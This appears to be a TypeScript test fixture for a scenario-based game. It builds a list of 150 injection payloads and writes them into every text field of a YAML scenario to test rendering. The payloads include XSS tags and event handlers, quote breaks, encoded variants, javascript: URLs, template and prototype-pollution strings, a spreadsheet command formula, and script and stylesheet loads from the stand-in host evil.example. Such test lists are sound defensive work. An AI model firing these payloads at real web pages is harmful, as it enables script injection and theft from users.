// What strangers have tried to get into pages: 150 texts, each of which calls `pwn()` where a page lets it, and a scenario with one of them
// in every text at once.

import { readFileSync } from 'node:fs';
import { parse, stringify } from 'yaml';
import { translatable } from '../../../src/scenario/index.ts';

const CALL = 'pwn()';

/** Elements that run something by themselves, or when they are touched. */
const ELEMENTS = [
  `<script>${CALL}</script>`,
  `<ScRiPt>${CALL}</sCrIpT>`,
  `<script src=//evil.example/x.js>`,
  `<script type=module>${CALL}</script>`,
  `<scr<script>ipt>${CALL}</script>`,
  `</script><script>${CALL}</script>`,
  `<script/x>${CALL}</script>`,
  `<script\n>${CALL}</script>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><a href=javascript:${CALL}>x</a>`,
  `<svg><animate onbegin=${CALL}>`,
  `<svg><set onbegin=${CALL}>`,
  `<svg><use href=data:,x>`,
  `<math href=javascript:${CALL}>x</math>`,
  `<iframe src=javascript:${CALL}>`,
  `<iframe srcdoc=<script>${CALL}</script>>`,
  `<object data=javascript:${CALL}>`,
  `<embed src=javascript:${CALL}>`,
  `<a href=javascript:${CALL}>x</a>`,
  `<a href=" javascript:${CALL}">x</a>`,
  `<a href=java&#9;script:${CALL}>x</a>`,
  `<form action=javascript:${CALL}>`,
  `<button formaction=javascript:${CALL}>`,
  `<isindex action=javascript:${CALL}>`,
  `<meta http-equiv=refresh content=0>`,
  `<base href=//evil.example/>`,
  `<link rel=stylesheet href=//evil.example>`,
  `<link rel=import href=//evil.example>`,
  `<style>@import'//evil.example'</style>`,
  `<style onload=${CALL}></style>`,
  `<template><img src=x onerror=${CALL}>`,
  `<noscript><img src=x onerror=${CALL}>`,
  `<xmp><img src=x onerror=${CALL}></xmp>`,
  `<!--><img src=x onerror=${CALL}>-->`,
  `<![CDATA[<script>${CALL}</script>]]>`,
  `<?xml-stylesheet href=javascript:x?>`,
  `<frameset onload=${CALL}>`,
  `<table background=javascript:${CALL}>`,
  `<input type=image src=x onerror=${CALL}>`,
  `<portal src=//evil.example>`,
] as const;

const LOADED = ['svg', 'body', 'iframe', 'img src=data:,', 'object', 'link href=.', 'style'].map((tag) => `<${tag} onload=${CALL}>`);
const FAILED = ['img src=x', 'video src=x', 'audio src=x', 'image src=x', 'source src=x', 'script src=x', 'object data=x'].map(
  (tag) => `<${tag} onerror=${CALL}>`,
);
const FOCUSED = ['input', 'select', 'textarea', 'button', 'a href=x', 'div tabindex=0'].flatMap((tag) => [
  `<${tag} autofocus onfocus=${CALL}>`,
  `<${tag} onblur=${CALL} autofocus>`,
]);
const TOUCHED = ['click', 'mouseover', 'pointerenter', 'wheel', 'drag', 'copy', 'keydown', 'animationstart', 'transitionend', 'toggle'].map(
  (event) => `<b on${event}=${CALL}>x</b>`,
);
const STARTED = [
  `<marquee onstart=${CALL}>`,
  `<details open ontoggle=${CALL}>`,
  `<video autoplay onplay=${CALL}>`,
  `<body onpageshow=${CALL}>`,
];

/** Ways out of quotes, of attributes and of scripts. */
const BREAKS = [
  `"><svg onload=${CALL}>`,
  `'><svg onload=${CALL}>`,
  `" onmouseover=${CALL} x="`,
  `' onmouseover=${CALL} x='`,
  `" autofocus onfocus=${CALL} x="`,
  `";${CALL};//`,
  `';${CALL};//`,
  `\`;${CALL};//`,
  `'-${CALL}-'`,
  `"+${CALL}+"`,
  `\\";${CALL};//`,
  `*/${CALL}/*`,
  `-->${CALL}<!--`,
  `]]>${CALL}`,
  `</title><svg onload=${CALL}>`,
  `</textarea><svg onload=${CALL}>`,
  `</style><svg onload=${CALL}>`,
  `\n${CALL}//`,
];

/** The same in other writings. */
const ENCODED = [
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&#60;svg onload=${CALL}&#62;`,
  `&#x3c;svg onload=${CALL}&#x3e;`,
  `%3Csvg onload=${CALL}%3E`,
  `\\u003csvg onload=${CALL}\\u003e`,
  `\\x3csvg onload=${CALL}\\x3e`,
  `+ADw-script+AD4-${CALL}`,
  `＜script＞${CALL}＜/script＞`,
  `‹script›${CALL}‹/script›`,
  `<\u0000script>${CALL}</script>`,
  `<scr\u0000ipt>${CALL}</script>`,
  `\u202e>tpircs<${CALL}`,
  `<svg\u00a0onload=${CALL}>`,
  `<svg\u2028onload=${CALL}>`,
  `<svg\tonload=${CALL}>`,
  `<svg/onload=${CALL}>`,
  `<svg onload\u000c=${CALL}>`,
  `\ufeff<svg onload=${CALL}>`,
];

/** Addresses, and what other programs take for commands. */
const OTHERS = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `java\nscript:${CALL}`,
  `vbscript:${CALL}`,
  `data:text/html,<svg onload=${CALL}>`,
  `blob:x`,
  `//evil.example/x`,
  `https://evil.example/?q=${CALL}`,
  `[x](javascript:${CALL})`,
  `[x]: javascript:${CALL}`,
  `![x](//evil.example/x)`,
  `<javascript:${CALL}>`,
  `<https://evil.example>`,
  `\`${CALL}\``,
  `$\{${CALL}}`,
  `{{${CALL}}}`,
  `{${CALL}}`,
  `#{${CALL}}`,
  `<%= ${CALL} %>`,
  `@{${CALL}}`,
  `%{${CALL}}`,
  `__proto__`,
  `constructor`,
  `x.constructor.constructor('${CALL}')()`,
  `toString`,
  `{ana.__proto__}`,
  `{constructor.name}`,
  `=HYPERLINK("//evil.example")`,
  `=cmd|' /C calc'!A0`,
  `expression(${CALL})`,
  `url(javascript:${CALL})`,
  `;alert(1)`,
  `eval('${CALL}')`,
  `setTimeout('${CALL}')`,
  `import('//evil.example')`,
  `!!js/function ${CALL}`,
  `*alias`,
  `&anchor x`,
];

const ALL = [...ELEMENTS, ...LOADED, ...FAILED, ...FOCUSED, ...TOUCHED, ...STARTED, ...BREAKS, ...ENCODED, ...OTHERS];
export const COUNT = 150;
export const PAYLOADS: readonly string[] = [...new Set(ALL)].slice(0, COUNT);

const SMALL = readFileSync(new URL('../../scenario/fixtures/small.yaml', import.meta.url), 'utf8');

/** What the small scenario does without: it has a text in every field that can hold one, `tests/scenario/payloads.test.ts`. */
const MORE = {
  stakeholders: { sam: { short: 'Sam' } },
  team: { tomas: { short: 'Tom', behavior: 'Pulls a cable before he is asked.' } },
  hires: {
    lea: {
      name: 'Lea Brandt',
      short: 'Lea',
      role: 'on contract',
      about: 'Books out early.',
      kind: 'contractor',
      lead: 1,
      weekly: 300,
      days: 1,
      skills: { network: 60 },
    },
  },
  requests: {
    labels: { title: 'A label on each', asks: 'Could each have a label?\n', from: 'ines', for: 'server', week: 2, adds: '5%' },
  },
} as const;

type Tree = { [key: string]: unknown };

/** Both, one in the other. */
function merged(one: Tree, other: Tree): Tree {
  const isTree = (value: unknown): value is Tree => typeof value === 'object' && value !== null && !Array.isArray(value);
  const inner = Object.entries(other).map(([key, value]) => {
    const own = one[key];
    return [key, isTree(own) && isTree(value) ? merged(own, value) : value] as const;
  });
  return { ...one, ...Object.fromEntries(inner) };
}

/** Texts for players, by the name of their part: how many letters they have room for. */
const ROOM: Readonly<Record<string, number>> = {
  title: 80,
  place: 80,
  name: 40,
  short: 20,
  label: 80,
  role: 80,
  wants: 160,
  about: 160,
  found: 160,
  note: 160,
  because: 160,
  known: 160,
  behavior: 160,
};
/** Those that may have several lines. */
const PROSE: readonly string[] = ['summary', 'text', 'asked-for', 'cause', 'message', 'reply', 'asks'];

/** A sign that would mean something in prose stands for itself after a backslash. */
const plain = (text: string): string => text.replaceAll(/[\\`*_<>[\]#&!]/g, (sign) => `\\${sign}`);

/** The small scenario, and what it does without, with a text of one's own in place of each of its own; `of` is told how much room there is. */
function filled(of: (room: number, isProse: boolean, key: string) => string, id: string, lang: 'en' | 'de' = 'en'): string {
  const walk = (value: unknown, path: readonly string[]): unknown => {
    const key = path.at(-1) ?? '';
    if (typeof value === 'string') {
      if (path[0] === 'checks' || path[0] === 'start') return value;
      if (key === 'from' && path[0] === 'brief') return of(80, false, key);
      const isGoal = path[0] === 'objectives' && key === 'text';
      if (PROSE.includes(key) && !isGoal) return of(key === 'asks' ? 550 : 900, true, key);
      if (isGoal) return of(160, false, key);
      return Object.hasOwn(ROOM, key) ? of(ROOM[key] ?? 0, false, key) : value;
    }
    if (Array.isArray(value)) return value.map((item) => walk(item, [...path, '0']));
    if (typeof value !== 'object' || value === null) return value;
    return Object.fromEntries(Object.entries(value).map(([name, inner]) => [name, walk(inner, [...path, name])]));
  };
  const tree = { ...(walk(merged(parse(SMALL) as Tree, MORE), []) as Tree), id, lang };
  const other = lang === 'en' ? 'de' : 'en';
  const written = (whole: Tree): string =>
    stringify(whole, { lineWidth: 0, defaultStringType: 'QUOTE_DOUBLE', defaultKeyType: 'PLAIN', aliasDuplicateObjects: false });
  const translated = (translatable(written(tree), other) ?? []).map(({ path, text }) => {
    const steps = path.split('.');
    return steps.reduceRight<unknown>((inner, step) => ({ [step]: inner }), text) as Tree;
  });
  return written({ ...tree, translations: { [other]: translated.reduce(merged, {}) } });
}

/** One payload in every text of a scenario, cut where there is less room. In prose it is written so that it may stand there. */
export const hostile = (payload: string, isRaw = false): string =>
  filled(
    (room, isProse) => (isProse && !isRaw ? `x ${plain(payload)}` : payload.replaceAll('\n', ' ').slice(0, room).trim() || 'x'),
    'small',
  );

/**
 * As many payloads in each text as there is room for, other ones in each, so that few games show all of them. The file is written in German:
 * who plays in English is shown its translation. Returns what was put in.
 */
export function packed(payloads: readonly string[]): { readonly text: string; readonly shown: ReadonlySet<string> } {
  const shown = new Set<string>();
  let next = 0;
  const text = filled(
    (room, isProse) => {
      let line = 'x';
      for (let tries = 0; tries < payloads.length; tries += 1) {
        const payload = payloads[next % payloads.length] ?? '';
        const longer = `${line} ${isProse ? plain(payload) : payload}`;
        if (longer.length > room) break;
        line = longer;
        shown.add(payload);
        next += 1;
      }
      return line;
    },
    'small',
    'de',
  );
  return { text, shown };
}
